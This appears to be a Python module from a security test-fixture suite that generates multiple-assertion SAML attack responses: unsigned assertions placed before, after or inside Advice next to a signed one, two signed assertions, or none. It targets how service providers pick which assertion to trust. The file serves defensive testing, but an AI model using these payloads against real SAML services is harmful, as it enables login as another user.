"""More than one assertion: the first verified, the second read, or both.

Known from: saml-profiles-2.0-os 4.1.4.2 allows several; CVE-2012-5657 and many libraries since read the wrong one.
"""

from __future__ import annotations

from collections.abc import Iterator
from copy import deepcopy

from lxml import etree

from idp_fixtures.saml.message import assertion_tree
from idp_fixtures.saml.names import SAML, Element, find, parse, serialize
from idp_fixtures.threats import Attempt
from idp_fixtures.threats.saml._stage import Stage


def attack(stage: Stage) -> Iterator[Attempt]:
    """A second one after it, before it, in Advice, both signed, and none."""
    begun = stage.begin()
    unsigned = parse(serialize(assertion_tree(stage.answer(begun, stage.victim))))
    own = stage.genuine(begun, signs=("assertion",))
    after, before = deepcopy(own), deepcopy(own)
    after.append(deepcopy(unsigned))
    before.insert(2, deepcopy(unsigned))
    yield Attempt("an unsigned one after it", stage.send(begun, after), ("saml_structure",))
    yield Attempt("an unsigned one before it", stage.send(begun, before), ("saml_structure",))
    twice = deepcopy(own)
    twice.append(find(stage.genuine(begun, signs=("assertion",)), "saml:Assertion"))
    yield Attempt("two signed ones", stage.send(begun, twice), ("saml_structure",))
    yield stage.signed_so("in Advice, signed", lambda tree: _advise(tree, deepcopy(unsigned)), "saml_structure")
    yield stage.tampered("none", lambda tree: tree.remove(find(tree, "saml:Assertion")), "saml_structure", signs=("assertion",))


def _advise(tree: Element, evil: Element) -> None:
    assertion = find(tree, "saml:Assertion")
    advice = etree.Element(f"{{{SAML}}}Advice")
    advice.append(evil)
    assertion.insert(list(assertion).index(find(assertion, "saml:Conditions")) + 1, advice)
